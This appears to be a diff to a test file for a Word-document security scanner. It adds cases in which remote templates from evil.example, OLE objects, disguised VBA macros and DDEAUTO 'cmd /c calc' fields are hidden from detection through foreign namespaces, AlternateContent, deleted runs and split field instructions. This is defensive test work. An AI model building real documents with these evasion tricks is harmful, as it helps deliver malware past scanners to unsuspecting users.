@@ -76,8 +76,125 @@ const rewritten = (name: string, change: (text: string) => Buffer | string) => {
   );
 };
 
+const foreign = 'xmlns:x="urn:x"';
+const compatibility = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"';
+/** A DDE field with this between two of its letters, where one program or the other leaves it out. */
+const ddeAround = (between: string) =>
+  documentOf(
+    field(instruction('DD'), between, instruction('EAUTO cmd')).replace(
+      '<w:p>',
+      `<w:p ${foreign} ${compatibility}>`,
+    ),
+  );
+/** What another namespace is to hide: Word leaves it out, or does not. */
+const hiddenByNamespaces: Case[] = [
+  [
+    'template behind a foreign target',
+    docx([
+      relationships(
+        documentRelationships,
+        `${foreign} Type="${officeRelationships}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External" x:Target="a.xml" x:TargetMode="Internal"`,
+      ),
+    ]),
+  ],
+  [
+    'template behind a foreign kind',
+    docx([
+      relationships(
+        documentRelationships,
+        `${foreign} Type="${officeRelationships}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External" x:Type="a/hyperlink"`,
+      ),
+    ]),
+  ],
+  [
+    'OLE behind a foreign kind',
+    docx([
+      relationships(
+        documentRelationships,
+        `${foreign} Type="${officeRelationships}/oleObject" Target="a.bin" x:Type="a/hyperlink"`,
+      ),
+    ]),
+  ],
+  [
+    'foreign element among the relationships',
+    rewritten('_rels/.rels', (text) =>
+      text.replace('</Relationships>', `<x:Relationship ${foreign}/></Relationships>`),
+    ),
+  ],
+  [
+    'macros behind a foreign type',
+    packageWith(
+      `<Override ${foreign} PartName="/word/a.bin" ContentType="${vbaType}" x:ContentType="image/png"/>`,
+      [{ name: 'word/a.bin', content: 'x' }],
+    ),
+  ],
+  [
+    'macros behind a second type',
+    packageWith(override('/word/a.bin', vbaType) + override('/word/a.bin', 'image/png'), [
+      { name: 'word/a.bin', content: 'x' },
+    ]),
+  ],
+  [
+    'DDE behind a foreign instruction',
+    documentOf(`<w:p ${foreign}><w:fldSimple w:instr="DDEAUTO cmd" x:instr="PAGE"/></w:p>`),
+  ],
+  [
+    'DDE before a foreign instruction',
+    documentOf(`<w:p ${foreign}><w:fldSimple x:instr="PAGE" w:instr="DDEAUTO cmd"/></w:p>`),
+  ],
+  [
+    'picture of a shape behind a foreign one',
+    documentOf(
+      `<w:p ${foreign}><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/a" x:src="cid:a"/></w:p>`,
+    ),
+  ],
+  ['DDE cut by a foreign run', ddeAround('<x:r><w:r><w:instrText>ZZ</w:instrText></w:r></x:r>')],
+  ['DDE cut by foreign text', ddeAround(run('<x:instrText>ZZ</x:instrText>'))],
+  ['DDE cut by a foreign end', ddeAround(run('<x:fldChar x:fldCharType="end"/>'))],
+  ['DDE cut by a foreign type', ddeAround(run('<w:fldChar fldCharType="begin"/>'))],
+  [
+    'DDE cut by another way to show it',
+    ddeAround(
+      `<mc:AlternateContent><mc:Choice Requires="w"><w:r/></mc:Choice><mc:Fallback>${instruction('ZZ')}</mc:Fallback></mc:AlternateContent>`,
+    ),
+  ],
+  [
+    'DDE cut by a way that nobody knows',
+    ddeAround(
+      `<mc:AlternateContent><mc:Choice Requires="x">${instruction('ZZ')}</mc:Choice></mc:AlternateContent>`,
+    ),
+  ],
+  [
+    'DDE cut by another field left out',
+    ddeAround(`<x:r>${character('end')}${character('begin')}</x:r>`),
+  ],
+  [
+    'DDE cut by deleted text',
+    ddeAround(`<w:del w:id="1">${run('<w:delInstrText>ZZ</w:delInstrText>')}</w:del>`),
+  ],
+  ['DDE cut by a deleted run', ddeAround(`<w:del w:id="1">${instruction('ZZ')}</w:del>`)],
+  [
+    'DDE partly of ordinary text',
+    documentOf(field(run('<w:t>DDE</w:t>'), instruction('AUTO cmd /c calc'))),
+  ],
+  [
+    'DDE around an element',
+    documentOf(field(run(`<w:instrText>DD<x:foo ${foreign}/>EAUTO cmd</w:instrText>`))),
+  ],
+  [
+    'DDE by a simple QUOTE',
+    documentOf(
+      field(
+        '<w:fldSimple w:instr="QUOTE 68 68 69"><w:r><w:t>DDE</w:t></w:r></w:fldSimple>',
+        instruction(' cmd /c calc'),
+      ),
+    ),
+  ],
+];
+
 /** What Word would fetch, run or start. */
 export const unsafeWord: Case[] = [
+  ...hiddenByNamespaces,
   ['template by http', pointing('attachedTemplate', 'http://evil.example/t.dotm')],
   ['template by HTTPS', pointing('attachedTemplate', 'HTTPS://evil.example/t.dotm')],
   ['template on a share', pointing('attachedTemplate', '\\\\evil.example\\share\\t.dotm')],
@@ -321,6 +438,25 @@ export const ordinaryWord: Case[] = [
       ]
         .map((text) => field(instruction(text.replaceAll('"', '&quot;'))))
         .join(''),
+    ),
+  ],
+  [
+    'fields in text boxes, changes that are kept, and two ways to show them',
+    documentOf(
+      `<w:p ${foreign} ${compatibility} xmlns:v="urn:schemas-microsoft-com:vml" xmlns:xlink="http://www.w3.org/1999/xlink">${field(
+        instruction('HYPERLINK "https://example.ca"'),
+        `<w:del w:id="1">${run('<w:delInstrText> \\o "old"</w:delInstrText>')}</w:del>`,
+        character('separate'),
+        ...['Choice Requires="x"', 'Fallback'].map((way, index) =>
+          [
+            index === 0 ? '<mc:AlternateContent>' : '',
+            `<mc:${way}><v:shape href="#a" xlink:href="https://example.ca" x:id="1" w:id="2">`,
+            `<w:txbxContent>${field(instruction('PAGE'))}</w:txbxContent>`,
+            `</v:shape></mc:${way.split(' ')[0]}>`,
+            index === 1 ? '</mc:AlternateContent>' : '',
+          ].join(''),
+        ),
+      )}</w:p>`,
     ),
   ],
   ['words about DDE', documentOf('<w:p><w:r><w:t>DDEAUTO is added &amp; hidden</w:t></w:r></w:p>')],
